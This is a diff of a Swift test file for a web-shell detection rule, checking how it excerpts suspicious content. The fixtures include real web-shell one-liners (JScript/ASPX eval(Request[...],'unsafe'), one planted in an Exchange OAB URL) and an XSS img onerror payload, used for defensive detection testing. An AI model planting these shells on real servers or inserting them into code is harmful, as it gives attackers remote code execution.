@@ -44,6 +44,8 @@ import Testing
         let oab = "Name : OAB\r\nExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>\r\nInternalUrl : https://ex01/OAB"
         #expect(WebShellContentRule.excerpt(oab, at: oab.range(of: "eval(")!.lowerBound) == "eval(Request[\"k\"],\"unsafe\");}</script>")
         #expect(WebShellContentRule.excerpt(oab, at: oab.range(of: "<script")!.lowerBound).hasSuffix("\"unsafe\");}</script>"))
+        let page = #"<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%><html><body><img src=x onerror=alert(1)>"#
+        #expect(WebShellContentRule.excerpt(page, at: page.range(of: "eval(")!.lowerBound) == #"eval(Request.Item["pass"],"unsafe");%>"#)
     }
 
     /// The collected copy has no time; the listing row of the same path gives it (its LastWriteTimeUtc), and
